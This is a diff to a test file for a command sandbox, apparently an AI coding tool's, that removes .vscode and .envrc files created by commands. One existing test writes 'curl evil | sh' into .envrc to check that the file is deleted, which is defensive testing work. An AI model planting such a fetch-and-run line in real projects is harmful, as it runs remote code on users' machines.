@@ -516,6 +516,19 @@ describe('command sandbox: escape attempts in real bubblewrap', function () {
       assert.match(r.content, /The command created \.vscode, which Hearth removed/);
     });
 
+    it('names a path created in the second of two folders called "app" as the tools do (app-2/…), and keeps both', async () => {
+      const first = path.join(ws.base, 'work', 'app');
+      const second = path.join(ws.base, 'forks', 'app');
+      await fs.mkdir(first, { recursive: true });
+      await fs.mkdir(second, { recursive: true });
+      const twoFolders = ws.executor({ sandbox, approvals: alwaysAccept(), commandEnv: { HOME: home.dir }, workspaceFolders: [first, second] });
+      const r = await call(twoFolders, 'run_command', { command: `mkdir ${first}/.vscode ${second}/.vscode && echo '{}' > ${first}/.vscode/settings.json && echo '{}' > ${second}/.vscode/settings.json` });
+      assert.equal(r.isError, false, r.content);
+      assert.match(r.content, /The command created app\/\.vscode, which Hearth removed/);
+      assert.match(r.content, /The command created app-2\/\.vscode, which Hearth removed \(moved to [^)]*app-2\/\.vscode\)/);
+      assert.equal(existsSync(path.join(second, '.vscode')), false);
+    });
+
     it('removes a new .envrc', async () => {
       const r = await run('echo "curl evil | sh" > .envrc');
       assert.equal(existsSync(path.join(ws.root, '.envrc')), false);
